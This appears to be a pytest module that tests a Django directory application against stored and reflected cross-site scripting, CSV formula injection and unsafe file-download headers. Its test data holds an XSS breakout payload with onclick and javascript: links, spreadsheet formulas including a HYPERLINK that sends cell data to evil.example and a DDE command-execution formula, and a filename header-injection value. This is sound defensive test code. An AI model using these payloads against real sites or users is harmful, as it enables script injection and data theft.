"""Markup and formulas in every text that comes from a directory or a person: shown as text on every page, in every file."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from typing import Any

import pytest
from django.db.models import Model
from django.test import Client
from django.urls import reverse

from directory.models import Alert, LdapServer, Mail, Match, Run, RunChange, RunServer, ScriptVersion, StoredEntry
from orgs.models import (
    AuditEntry,
    Custodian,
    Device,
    Matter,
    MatterEvent,
    Org,
    PreservationPolicy,
    Role,
    RoleGrant,
    User,
)
from tests.attacks.attempts import attack, body
from tests.attacks.forms import as_sent
from tests.attacks.upload_pages import uploaded
from tests.attacks.urls import MODELS, PAGES, SHOWN, data_fixes_of, data_fixes_of_the_site, mostly_whole
from tests.attacks.world import SERVER_ADMIN, SYSADMIN, World, question_of
from tests.makers import NOW

pytestmark = [pytest.mark.django_db, pytest.mark.once]


def payload(tag: str) -> str:
    """Return text that leaves attributes, titles, text areas and scripts, if it is let."""
    return f"""'"></title></textarea></script><{tag} onclick=alert(1)>{{{{7*7}}}}<a href="javascript:alert(1)">"""


# Texts that a directory, a device or a person decides, by model and column; short ones have room for the tag only.
TEXTS: dict[str, tuple[type[Model], str]] = {
    "x-recipient": (Mail, "recipient"),
    "x-username": (User, "username"),
    "x-email": (User, "email"),
    "x-first-name": (User, "first_name"),
    "x-last-name": (User, "last_name"),
    "x-user-notes": (User, "notes"),
    "x-org": (Org, "name"),
    "x-org-notes": (Org, "notes"),
    "x-role": (Role, "name"),
    "x-granted-by": (RoleGrant, "granted_by"),
    "x-device": (Device, "name"),
    "x-os": (Device, "os"),
    "x-app": (Device, "app_version"),
    "x-matter": (Matter, "name"),
    "x-policy": (Matter, "policy"),
    "x-matter-notes": (Matter, "notes"),
    "x-reference": (Matter, "reference"),
    "x-policy-name": (PreservationPolicy, "name"),
    "x-policy-text": (PreservationPolicy, "kept"),
    "x-event-actor": (MatterEvent, "actor_label"),
    "x-server": (LdapServer, "name"),
    "x-bind-dn": (LdapServer, "bind_dn"),
    "x-base": (LdapServer, "search_base"),
    "x-filter": (LdapServer, "search_filter"),
    "x-ca": (LdapServer, "ca_certificate"),
    "x-canary": (LdapServer, "canary"),
    "x-active-script": (LdapServer, "active_script"),
    "x-role-script": (LdapServer, "role_name_script"),
    "x-dn": (Match, "dn"),
    "x-unique-id": (Match, "unique_id"),
    "x-entry-dn": (StoredEntry, "dn"),
    "x-author": (ScriptVersion, "author"),
    "x-source": (ScriptVersion, "source"),
    "x-started-by": (Run, "started_by_label"),
    "x-approved-by": (Run, "approved_by_label"),
    "x-phase": (Run, "phase"),
    "x-run-error": (Run, "error"),
    "x-reading": (RunServer, "server_name"),
    "x-reading-url": (RunServer, "url"),
    "x-ldap-error": (RunServer, "error"),
    "x-change-user": (RunChange, "username"),
    "x-change-server": (RunChange, "server_name"),
    "x-unknown-org": (RunChange, "unknown_org"),
    "x-alert": (Alert, "message"),
    "x-actor": (AuditEntry, "actor_label"),
    "x-object": (AuditEntry, "object_label"),
    "x-kind": (AuditEntry, "object_type"),
    "x-action": (AuditEntry, "action"),
    "x-subject": (Mail, "subject"),
    "x-mail": (Mail, "body"),
    "x-mail-error": (Mail, "error"),
}
# The same in columns that hold lists and objects.
NESTED: dict[str, tuple[type[Model], str, Callable[[str], Any]]] = {
    "x-urls": (LdapServer, "urls", lambda text: [text]),
    "x-always-list": (LdapServer, "always_list_attributes", lambda text: [text]),
    "x-held-back": (Run, "held_back", lambda text: [text]),
    "x-run-warning": (Run, "warnings", lambda text: [text]),
    "x-missing-org": (Run, "unknown_orgs", lambda text: {text: 3}),
    "x-org-count": (Run, "org_counts", lambda text: [{"id": 1, "name": text, "users": 3, "deactivated": 1}]),
    "x-referral": (RunServer, "referrals", lambda text: [text]),
    "x-steps": (RunChange, "steps", lambda text: [f"the active script failed at line 1: {text}"]),
    "x-change-warning": (RunChange, "warnings", lambda text: [text]),
    "x-attributes": (StoredEntry, "attributes", lambda text: {"cn": [text], text: ["x"]}),
    "x-audit-after": (AuditEntry, "after", lambda text: {"role_name_script": text, text: "x"}),
    "x-permission": (Role, "permissions", lambda text: [text]),
    "x-event-details": (MatterEvent, "details", lambda text: {text: [text, text]}),
}
SHORT = 64


def longest(model: type[Model], column: str) -> int | None:
    """Return how many characters a column holds."""
    length: int | None = getattr(model._meta.get_field(column), "max_length", None)
    return length


def _fill() -> None:
    """Put the payloads in; the standard roles stay, as they open the doors."""
    for tag, (model, column) in TEXTS.items():
        room = longest(model, column)
        text = payload(tag) if room is None or room > SHORT * 2 else f'"><{tag}>'
        rows = model._default_manager.all()
        if model is User:
            rows = rows.filter(username__startswith="worker") if column == "username" else rows
            for user in list(rows):
                User.objects.filter(pk=user.pk).update(**{column: text})
            continue
        rows = rows.filter(locked=False) if model is Role else rows
        rows.update(**{column: text})
    for tag, (model, column, wrapped) in NESTED.items():
        rows = model._default_manager.filter(locked=False) if model is Role else model._default_manager.all()
        rows.update(**{column: wrapped(payload(tag))})
    for change in RunChange.objects.all():
        change.before |= {"org": payload("x-before-org"), "email": payload("x-before-email")}
        change.after |= {
            "org": payload("x-after-org"),
            "roles": [payload("x-after-role")],
            "first_name": payload("x-after-name"),
        }
        change.save()


SIDES = ("x-before-org", "x-before-email", "x-after-org", "x-after-role", "x-after-name")
TAGS = (*TEXTS, *NESTED, *SIDES)


class Tags(HTMLParser):
    """Collects what a browser would take for elements of ours that we did not write."""

    def __init__(self) -> None:
        super().__init__()
        self.strange: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag.startswith("x-"):
            self.strange.add(tag)
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.strange.add(f"{tag} {name}={value}")


def strange_tags(text: str) -> set[str]:
    """Return the elements that should have been text."""
    parser = Tags()
    parser.feed(text)
    return parser.strange


@pytest.fixture(scope="module")
def kept() -> dict[str, str]:
    """What all pages showed, rendered once."""
    return {}


@pytest.fixture
def shown(kept: dict[str, str], world: World) -> dict[str, str]:
    """Every page, fragment and data fix of a world in which every text is an attack, by address."""
    if not kept:
        Device.objects.update(last_connected=NOW)
        Custodian.objects.update(released_at=None)
        _fill()
        kept.update(_everything(world))
    return kept


def _everything(world: World) -> Iterator[tuple[str, str]]:
    client = world.client(SYSADMIN)
    places = [PAGES[name].address(world) for name in SHOWN if name not in {*FILES, *FILES_ELSEWHERE}]
    places += [reverse("runs:detail", args=[world.objects["held"].pk]), reverse("orgs:detail", args=[world.own.org.pk])]
    places += [reverse("users:detail", args=[world.own.worker.pk]), question_of(world, SYSADMIN)]
    for address in places:
        page = client.get(address)
        text = body(page)
        yield address, text
        for target in set(re.findall(r'hx-target="#([\w-]+)"', text)):
            fragment = client.get(address, headers={"HX-Request": "true", "HX-Target": target})
            yield f"{address}#{target}", body(fragment)
    for model in MODELS:
        for address in data_fixes_of(model):
            yield address, body(client.get(address, follow=True))
        ids = [row.pk for row in MODELS[model]._default_manager.all()[:20]]
        for action in ("block", "deactivate", "close", "release", "forget", "renew_key", "take_out_of_use"):
            given = {"action": action, "_selected_action": ids}
            yield f"{model} {action}", body(client.post(reverse(f"data-fixes:{model}_changelist"), given, follow=True))
    for address in data_fixes_of_the_site():
        yield address, body(client.get(address, follow=True))


def of_model(tag: str) -> str:
    """Return whose text it is."""
    about = {**TEXTS, **{key: value[:2] for key, value in NESTED.items()}}.get(tag)
    return str((about[0] if about else RunChange)._meta.verbose_name)


@pytest.mark.whole
@pytest.mark.parametrize("owner", sorted({of_model(tag) for tag in TAGS}))
def test_a_stored_text_is_shown_as_text(shown: dict[str, str], owner: str) -> None:
    tags = [tag for tag in TAGS if of_model(tag) == owner]
    tag_names = ", ".join(tag.removeprefix("x-").replace("-", " ") for tag in tags)

    with attack(
        f"markup in texts of a {owner}: {tag_names}",
        how=f"{payload('x-…')} stored there, then all {len(shown)} pages, fragments and data fixes as a SYSADMIN",
        expected="text wherever it is shown, an element nowhere",
    ) as attempt:
        pages = [address for address, text in shown.items() if any(f"&lt;{tag}" in text for tag in tags)]
        raw = [address for address, text in shown.items() if any(f"<{tag}" in text for tag in tags)]
        attempt.note(f"shown as text on {len(pages)} pages, as markup on {len(raw)}")
        assert raw == []


@pytest.mark.whole
def test_no_page_has_an_element_that_we_did_not_write(shown: dict[str, str]) -> None:
    with attack(
        "elements, handlers and javascript: links made of stored texts",
        how=f"{len(shown)} pages read as a browser reads them",
        expected="none",
    ) as attempt:
        found = {address: strange for address, text in shown.items() if (strange := strange_tags(text))}
        attempt.note(f"{len(shown)} pages")
        assert found == {}


@pytest.mark.whole
def test_every_stored_text_is_shown_somewhere(shown: dict[str, str]) -> None:
    everything = "".join(shown.values())

    unseen = {tag for tag in TAGS if f"&lt;{tag}" not in everything}

    # What no page shows; if one does some day, the rows above look at it.
    assert unseen <= {"x-user-notes", "x-unknown-org", "x-permission", "x-phase", "x-approved-by"}


REFLECTED: dict[str, Callable[[World, Client, str], Any]] = {
    "a search": lambda world, client, text: client.get("/users/", {"q": text}),
    "every filter": lambda world, client, text: client.get(
        "/users/", dict.fromkeys(("q", "org", "role", "state", "hold"), text)
    ),
    "sorting and pages": lambda world, client, text: client.get(
        "/audit/", dict.fromkeys(("sort", "page", "per_page"), text)
    ),
    "a parameter that no page has": lambda world, client, text: client.get("/users/", {text: text}),
    "the next page of the sign-in": lambda world, client, text: Client().get("/sign-in/", {"next": text}),
    "the username of the sign-in": lambda world, client, text: Client().post(
        "/sign-in/", {"username": text, "password": "x"}
    ),
    "the next page of “Confirm it is you”": lambda world, client, text: client.get("/confirm/", {"next": text}),
    "an email address": lambda world, client, text: client.post(
        "/settings/notifications/", {"notification_addresses": text}
    ),
    "the sync interval": lambda world, client, text: client.post(
        "/settings/security/ldap/interval/", {"interval_hours": text}
    ),
    "an address that is not there": lambda world, client, text: client.get(f"/{text}/"),
    "the search of a data fix": lambda world, client, text: client.get("/data-fixes/orgs/user/", {"q": text}),
    "filters of a data fix": lambda world, client, text: client.get(
        "/data-fixes/orgs/user/", {"username__exact": text, "_changelist_filters": text}, follow=True
    ),
    "the id of a data fix": lambda world, client, text: client.get(
        f"/data-fixes/orgs/user/{text}/change/", follow=True
    ),
    "a new user of the data fixes": lambda world, client, text: client.post(
        "/data-fixes/orgs/user/add/", {"username": text, "org": text}
    ),
    "the popup of a data fix": lambda world, client, text: client.get(
        "/data-fixes/orgs/user/add/", {"_popup": text, "_to_field": text, "username": text}
    ),
    "an action of a data fix": lambda world, client, text: client.post(
        "/data-fixes/orgs/user/", {"action": text, "_selected_action": [text]}, follow=True
    ),
    "the fragment that is asked for": lambda world, client, text: client.get(
        "/users/", headers={"HX-Request": "true", "HX-Target": text}
    ),
    "the time zone": lambda world, client, text: Client(headers={"Cookie": f"time_zone={text}"}).get("/sign-in/"),
}


@pytest.mark.parametrize("what", mostly_whole(REFLECTED, {"a search", "an email address", "the search of a data fix"}))
def test_a_sent_text_comes_back_as_text(world: World, what: str) -> None:
    with attack(f"markup in {what}", how="one such request", expected="text in the answer, no element") as attempt:
        text = attempt.answer(REFLECTED[what](world, world.client(SYSADMIN), payload("x-sent")), 200, 302, 400, 404)
        assert "<x-sent" not in text
        assert strange_tags(text) == set()
        attempt.note("as text" if "&lt;x-sent" in text else "not shown")


FIELDS = (
    "name",
    "urls",
    "bind_dn",
    "search_base",
    "search_filter",
    "canary",
    "ca_certificate",
    "active_script",
    "org_name_script",
)


@pytest.mark.whole
def test_a_refused_setting_comes_back_as_text(world: World) -> None:
    client, server = world.client(SERVER_ADMIN), world.objects["server"]
    address = reverse("ldap_servers:edit", args=[server.pk])
    stored = as_sent(client.get(address).context["form"])

    with attack(
        "markup in a setting of an LDAP server",
        how=f"{', '.join(FIELDS)}: saved together with a wrong page size, and tried out by both test buttons",
        expected="the form with its messages, all of it text",
    ) as attempt:
        for field in FIELDS:
            given = stored | {field: payload("x-sent"), "page_size": "x"}
            for place in (address, f"{address}test-connection/", f"{address}test-search/"):
                text = attempt.answer(client.post(place, given), 200, what=field)
                assert "<x-sent" not in text
                assert strange_tags(text) == set()


FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1)',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1",
    "＝1+1",
    "＋1",
    "a;=1+1",
    'a"\n=1+1',
    "=cmd|' /C calc'!A0",
)
FILES = {
    "users:export": ("username", "email", "first_name", "last_name", "org"),
    "devices:export": ("name", "user", "org", "os", "app_version"),
    "archives:export": ("device", "user", "org"),
    "archives:by-org-export": ("org",),
    "runs:csv": ("username", "ldap_server", "steps", "warnings", "org_before", "roles_after"),
    "audit:export": ("who", "action", "kind", "object"),
    "legal_holds:report-all": ("matter", "reference", "username", "name"),
    "bulk_acts:results": ("username", "email", "org_now"),
}
# Files of one matter, of one's own upload, and one that is no CSV: their texts are those of the files above.
FILES_ELSEWHERE = {"legal_holds:report", "users:upload-rows", "users:upload-outcome-rows", "runs:json"}
BEGINS = re.compile(r"(?:^|[;\r\n])[\s\u200b\ufeff]*[=+\-@＝＋－＠]")


def test_each_address_of_a_file_is_tried(world: World) -> None:
    client = world.client(SYSADMIN)
    # The rows of an upload are a file as long as the upload waits.
    assert uploaded(client, world.own.org, b"username\nwilma\n").status_code == 302
    files = set()
    for name in SHOWN:
        answer = client.get(PAGES[name].address(world))
        # An export is under way until it has been read.
        if body(answer) and "attachment" in answer.headers.get("Content-Disposition", ""):
            files.add(name)

    assert files == {*FILES, *FILES_ELSEWHERE}


@pytest.mark.parametrize("name", FILES)
def test_a_cell_of_an_export_is_no_formula(world: World, name: str) -> None:
    with attack(
        f"formulas in {name}",
        how=f"{len(FORMULAS)} formulas in every text that the file holds: {' '.join(FORMULAS)[:60]}…",
        expected="each cell begins with an apostrophe, behind semicolons and line breaks too",
    ) as attempt:
        client = world.client(SYSADMIN)
        cells = 0
        for formula in FORMULAS:
            with _everywhere(formula):
                rows = list(
                    csv.DictReader(
                        io.StringIO(body(client.get(PAGES[name].address(world))).removeprefix("\ufeff"), newline="")
                    )
                )
            held = [row[column] for row in rows for column in FILES[name]]
            cells += len(held)
            assert any(cell.replace("'", "") == formula.replace("'", "") for cell in held)
            for cell in held:
                assert BEGINS.search(cell) is None, (name, cell)
        attempt.note(f"{cells} cells")


class _everywhere:  # noqa: N801
    """Has every text of users, orgs, devices, changes and the audit trail be this, for a while."""

    def __init__(self, text: str) -> None:
        self.text = text
        self.before: list[tuple[type[Model], dict[str, Any]]] = []

    def __enter__(self) -> None:
        columns: dict[type[Model], tuple[str, ...]] = {
            User: ("username", "email", "first_name", "last_name"),
            Org: ("name",),
            Device: ("name", "os", "app_version"),
            Matter: ("name", "reference"),
            RunChange: ("username", "server_name"),
            AuditEntry: ("actor_label", "action", "object_type", "object_label"),
        }
        for model, names in columns.items():
            self.before += [(model, row) for row in model._default_manager.values("pk", *names)]
            model._default_manager.update(**{name: self.text[: longest(model, name)] for name in names})
        nested = {
            "steps": [self.text],
            "warnings": [self.text],
            "before": {"org": self.text},
            "after": {"roles": [self.text]},
        }
        self.before += [(RunChange, row) for row in RunChange.objects.values("pk", *nested)]
        RunChange.objects.update(**nested)

    def __exit__(self, *_: object) -> None:
        for model, row in self.before:
            model._default_manager.filter(pk=row.pop("pk")).update(**row)


@pytest.mark.parametrize("name", [*FILES, "runs:json"])
def test_a_saved_file_is_never_shown_as_a_page(world: World, name: str) -> None:
    with attack(
        f"markup in {name}, opened in a browser",
        how="the headers of the file",
        expected="text/csv or application/json, as an attachment of a fixed name, nosniff",
    ) as attempt:
        response = world.client(SYSADMIN).get(
            PAGES[name].address(world), {"name": '"; filename=evil.html', "q": "<script>"}
        )
        text = attempt.answer(response, 200)
        kind = response.headers["Content-Type"].partition(";")[0]
        assert kind == ("application/json" if name == "runs:json" else "text/csv")
        assert re.fullmatch(r'attachment; filename="[\w.-]+"', response.headers["Content-Disposition"])
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        attempt.note(kind)
        if name == "runs:json":
            json.loads(text)
